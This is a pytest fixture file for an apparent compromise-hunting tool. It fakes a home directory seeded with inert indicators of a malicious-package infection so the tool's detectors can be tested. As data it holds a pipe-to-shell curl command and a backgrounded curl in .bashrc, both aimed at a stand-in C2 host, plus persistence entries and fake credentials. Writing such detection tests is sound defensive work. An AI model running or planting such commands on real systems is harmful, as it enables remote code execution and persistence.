"""A made-up home with one inert trace in every kind of place. Nothing in it is a program; all names are reserved ones."""

import base64
import gzip
import hashlib
import io
import json
import os
import sqlite3
import tarfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from lazaretto.app.hunt import hunt
from lazaretto.app.hunt_plan import Options

NOW = datetime(2026, 11, 25, tzinfo=UTC)
SOUGHT = (
    "npm:evil-graph",
    "npm:@bad/scope-kit",
    "npm:plain-bad@1.0.1",
    "pypi:evil-py",
    "ext:evil.theme",
    "c2.example.invalid",
    "192.0.2.77",
    "github-account:evil-corp",
    "repository-name:lure-test",
    "file-name:left_behind.bat",
)


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


def cacache(home: Path, url: str, content: bytes, milliseconds: int) -> Path:
    digest = hashlib.sha512(content)
    text = digest.hexdigest()
    write(home / f".npm/_cacache/content-v2/sha512/{text[:2]}/{text[2:4]}/{text[4:]}", content)
    entry = json.dumps(
        {
            "key": f"make-fetch-happen:request-cache:{url}",
            "integrity": "sha512-" + base64.b64encode(digest.digest()).decode(),
            "time": milliseconds,
            "size": len(content),
        }
    )
    key = hashlib.sha256(url.encode()).hexdigest()
    line = f"\n{hashlib.sha1(entry.encode()).hexdigest()}\t{entry}"
    return write(home / f".npm/_cacache/index-v5/{key[:2]}/{key[2:4]}/{key[4:]}", line)


def state(path: Path, trusted: str, opened: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    database = sqlite3.connect(path)
    database.execute("CREATE TABLE ItemTable (key TEXT UNIQUE, value BLOB)")
    trust = {"uriTrustInfo": [{"uri": {"path": trusted, "scheme": "file"}, "trusted": True}]}
    recent = {"entries": [{"folderUri": f"file://{opened}"}]}
    rows = (("content.trust.model.key", json.dumps(trust)), ("history.recentlyOpenedPathsList", json.dumps(recent)))
    database.executemany("INSERT INTO ItemTable VALUES (?, ?)", rows)
    database.commit()
    database.close()


def tar(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def image(packed: bool = False) -> bytes:
    """`docker save`: the first layer has a package, the second takes it away, the third has another."""
    first = tar({"app/node_modules/evil-graph/package.json": b'{"name": "evil-graph", "version": "2.0.0"}'})
    second = tar({"app/node_modules/.wh.evil-graph": b""})
    third = tar({"usr/lib/python3/dist-packages/evil_py-1.0.dist-info/METADATA": b"Name: evil-py\nVersion: 1.0\n\n"})
    if packed:
        first = gzip.compress(first)
    config = {
        "history": [
            {"created": "2026-11-01T10:00:00Z", "created_by": "/bin/sh -c npm install evil-graph@2.0.0"},
            {"created_by": "RUN /bin/sh -c npm rm evil-graph # buildkit"},
            {"created_by": "RUN /bin/sh -c pip install evil-py # buildkit"},
            {"created_by": 'CMD ["node"]', "empty_layer": True},
        ]
    }
    manifest = [{"Config": "c.json", "Layers": ["a/layer.tar", "b/layer.tar", "c/layer.tar"]}]
    return tar(
        {
            "manifest.json": json.dumps(manifest).encode(),
            "c.json": json.dumps(config).encode(),
            "a/layer.tar": first,
            "b/layer.tar": second,
            "c/layer.tar": third,
        }
    )


def record_row(path: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={digest},{len(data)}\n"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    root = tmp_path / "home"
    package = '{"name": "evil-graph", "version": "2.0.0"}'
    # projects
    write(root / "work/a/package.json", '{"name": "a", "dependencies": {"evil-graph": "^2.0.0"}}')
    lock = {"lockfileVersion": 3, "packages": {"": {}, "node_modules/evil-graph": {"version": "2.0.0"}}}
    write(root / "work/a/package-lock.json", json.dumps(lock, indent=1))
    write(root / "work/b/requirements.txt", "requests\nevil-py==1.0\n")
    write(root / "work/c/bom.json", json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.5", "components": [
        {"type": "library", "name": "evil-py", "version": "1.0", "purl": "pkg:pypi/evil-py@1.0"}]}))  # fmt: skip
    # installed
    write(root / "work/a/node_modules/evil-graph/package.json", package)
    write(root / "work/a/node_modules/other/node_modules/evil-graph/package.json", package)
    write(root / "work/a/node_modules/alias/package.json", package)
    write(root / "work/a/node_modules/@bad/scope-kit/package.json", '{"name": "@bad/scope-kit", "version": "1.0.0"}')
    write(root / "work/a/node_modules/plain-bad/package.json", '{"name": "plain-bad", "version": "1.0.0"}')
    site = root / "work/b/.venv/lib/python3.12/site-packages"
    write(site / "evil_py-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil_py\nVersion: 1.0\n\n")
    write(site / "evil_py-1.0.dist-info/INSTALLER", "pip\n")
    write(site / "evil_py/__init__.py", "clean = True\n")
    write(site / "evil_py/same.py", "same\n")
    write(
        site / "evil_py-1.0.dist-info/RECORD",
        record_row("evil_py/__init__.py", b"loader = True\n") + record_row("evil_py/same.py", b"same\n")
        + record_row("evil_py/gone.py", b"") + "evil_py-1.0.dist-info/RECORD,,\n",
    )  # fmt: skip
    write(site / "start.pth", "import urllib; u = 'https://c2.example.invalid/x'\n")
    # caches
    cacache(root, "https://registry.example.test/evil-graph", b"{}", 1_790_000_000_000)
    cacache(root, "https://registry.example.test/evil-graph/-/evil-graph-2.0.0.tgz", b"tarball", 1_790_000_001_000)
    cacache(root, "https://registry.example.test/@bad%2fscope-kit", b"{} ", 1_790_000_002_000)
    write(
        root / ".npm/_logs/2026-10-01T08_00_00_000Z-debug-0.log",
        '6 verbose argv "install" "evil-graph"\n'
        "15 silly placeDep ROOT evil-graph@2.0.0 OK for: a@ want: ^2.0.0\n"
        "16 http fetch GET 200 https://registry.example.test/evil-graph/-/evil-graph-2.0.0.tgz 96ms (cache miss)\n"
        "17 silly ADD node_modules/evil-graph\n"
        "18 info run evil-graph@2.0.0 postinstall node_modules/evil-graph node x.js\n"
        "25 verbose cwd /home/x/work/a\n",
    )
    pnpm = root / ".local/share/pnpm/store"
    write(pnpm / "v10/index/e3/50a27e-evil-graph@2.0.0.json", "{}")
    write(pnpm / "v10/index/e3/50a27f-@bad+scope-kit@1.0.0.json", "{}")
    write(pnpm / "v3/files/00/abc-index.json", '{"name": "evil-graph", "version": "2.0.0", "files": {}}')
    write(root / ".cache/pnpm/metadata-v1.3/registry.example.test/evil-graph.json", "{}")
    write(root / ".cache/pnpm/metadata-v1.3/registry.example.test/@bad/scope-kit.json", "{}")
    (root / f".cache/yarn/v6/npm-evil-graph-2.0.0-{'7' * 40}-integrity").mkdir(parents=True)
    (root / f".cache/yarn/v6/npm-@bad-scope-kit-1.0.0-{'7' * 40}-integrity").mkdir(parents=True)
    write(root / ".yarn/berry/cache/evil-graph-npm-2.0.0-060086935c-10c0.zip", b"")
    write(
        root / "work/d/.pnp.cjs",
        'x\n["evil-graph", [["npm:2.0.0", {"packageLocation": "../.yarn/berry/cache/evil-graph-npm-2.0.0-060086935c-10c0.zip/node_modules/evil-graph/"}]]]\n',
    )
    (root / ".bun/install/cache/evil-graph@2.0.0@@@1").mkdir(parents=True)
    (root / ".bun/install/cache/@bad/scope-kit@1.0.0@@@1").mkdir(parents=True)
    write(root / ".bun/install/cache/evil-graph-0123456789abcdef.npm", b"")
    pip = root / ".cache/pip"
    write(
        pip / "http-v2/a/b/c/d/e/abcdef",
        b'cc=4,\x82\xa8response\x83\xa7headers\x81\xd9content-disposition: attachment; filename="evil_py-1.0-py3-none-any.whl"\n',
    )
    write(pip / "http-v2/a/b/c/d/e/abcdef.body", b"PK\x03\x04evil_py-1.0.dist-info/METADATA")
    write(pip / "http-v2/a/b/c/d/f/fedcba", b"cc=4,\x82\xa8response")
    write(pip / "http-v2/a/b/c/d/f/fedcba.body", b'{"meta": {}, "name": "evil-py", "files": []}')
    write(
        pip / "http/1/old-page",
        b"cc=4,\x82\xa8response body <title>Links for evil-py</title> href=/f/evil_py-1.0-py3-none-any.whl",
    )
    write(
        pip / "http/1/old-sdist",
        b"cc=4,\x82\xa8response body" + gzip.compress(tar({"evil_py-1.1/setup.py": b"x"})) + b"headers",
    )
    write(pip / "http-v2/m.body", b"Metadata-Version: 2.1\nName: evil-py\nVersion: 1.2\n")
    write(pip / "http-v2/m", b"cc=4,")
    write(pip / "wheels/00/11/22/evil_py-1.0-py3-none-any.whl", b"PK")
    write(pip / "wheels/00/11/22/origin.json", '{"url": "https://registry.example.test/evil_py-1.0.tar.gz"}')
    write(
        root / "work/b/pip.log",
        "2026-10-01T08:00:00 Collecting evil-py==1.0\n2026-10-01T08:00:01   Downloading https://registry.example.test/evil_py-1.0-py3-none-any.whl (1 kB)\n2026-10-01T08:00:02 Successfully installed evil-py-1.0\n",
    )
    uv = root / ".cache/uv"
    write(uv / "simple-v28/pypi/evil-py.rkyv", b"")
    write(uv / "wheels-v8/pypi/evil-py/1.0-py3-none-any.http", b"")
    write(uv / "sdists-v11/pypi/evil-py/1.0/AbC/evil_py-1.0-py3-none-any.whl", b"")
    write(uv / "archive-v0/Qm/evil_py-1.0.dist-info/METADATA", "")
    write(root / ".cache/pypoetry/artifacts/aa/bb/cc/evil_py-1.0-py3-none-any.whl", b"")
    (root / ".cache/pdm/packages/evil_py-1.0-py3-none-any").mkdir(parents=True)
    write(root / "miniconda3/pkgs/evil-py-1.0-py312_0.conda", b"")
    # histories
    write(
        root / ".bash_history",
        "#1790000000\nnpm install evil-graph --registry https://u:hunter2pass@registry.example.test\nls\ngit clone https://github.com/evil-corp/lure-test\n",
    )
    write(
        root / ".zsh_history",
        ": 1790000100:0;NPM_TOKEN=npm_abcdefghijklmnopqrstuvwxyz0123456789 npx evil-graph@2.0.0\n: 1790000200:0;curl -s https://c2.example.invalid/i.sh | bash\n",
    )
    write(
        root / ".local/share/fish/fish_history",
        "- cmd: pip install evil-py\n  when: 1790000300\n- cmd: ls\n  when: 1790000301\n",
    )
    write(root / ".python_history", "import os\nimport evil_py\n")
    write(root / ".node_repl_history", "const g = require('evil-graph')\n")
    # editors, agents
    state(root / ".config/Code/User/globalStorage/state.vscdb", str(root / "work"), "/home/x/lure-test")
    task = {"label": "x", "type": "shell", "command": "true", "runOptions": {"runOn": "folderOpen"}}
    write(root / "work/.vscode/tasks.json", json.dumps({"tasks": [task]}))
    write(
        root / ".config/Code/User/workspaceStorage/0a/workspace.json",
        json.dumps({"folder": "file:///home/x/lure-test"}),
    )
    write(root / ".config/Code/User/workspaceStorage/0b/workspace.json", "{broken")
    (root / ".vscode/extensions/evil.theme-1.2.3-linux-x64").mkdir(parents=True)
    write(
        root / ".cursor/extensions/extensions.json",
        json.dumps(
            [
                {
                    "identifier": {"id": "Evil.Theme"},
                    "version": "1.2.4",
                    "metadata": {"installedTimestamp": 1_790_000_000_000},
                }
            ]
        ),
    )
    write(
        root / ".claude.json",
        json.dumps(
            {
                "mcpServers": {
                    "x": {"command": "npx", "args": ["-y", "evil-graph"], "env": {"KEY": "topsecretvalue"}},
                    "y": {"url": "https://c2.example.invalid/mcp"},
                }
            }
        ),
    )
    # images, persistence, logs
    write(root / "img/app.tar", image())
    write(root / "img/plain.tar", tar({"x.txt": b"evil-graph"}))
    write(root / ".bashrc", "export PATH\n(curl -s c2.example.invalid &) \n")
    write(root / ".config/systemd/user/x.service", "[Service]\nExecStart=/usr/bin/npx evil-graph\n")
    write(root / ".config/autostart/left_behind.bat", "x")
    write(root / "Downloads/left_behind.bat", "x")
    write(
        root / "logs/dnsmasq.log",
        "Nov 20 10:00:01 dnsmasq[1]: query[A] example.test from 192.0.2.1\nNov 20 10:00:02 dnsmasq[1]: query[A] a.c2.example.invalid from 192.0.2.1\n",
    )
    write(
        root / "logs/conn.log.gz",
        gzip.compress(b"#fields ts id.orig_h id.resp_h\n1790000000.123\t192.0.2.1\t192.0.2.77\n"),
    )
    for folder, _, files in os.walk(root):
        for name in files:
            os.utime(Path(folder, name), (1_790_000_500, 1_790_000_500))
    return root


@pytest.fixture
def look(tmp_path: Path):
    def run(root: Path | None = None, *, paths=(), host=True, indicators=SOUGHT, system="linux", env=None, **more):
        options = Options(
            paths=tuple(map(str, paths)), host=host, indicators=indicators, system=system, home=str(root or ""), jobs=1,
            env=env or {}, journal=tmp_path / "journal", now=NOW, **more,
        )  # fmt: skip
        return hunt(options)

    return run


@pytest.fixture
def build_tar():
    return tar
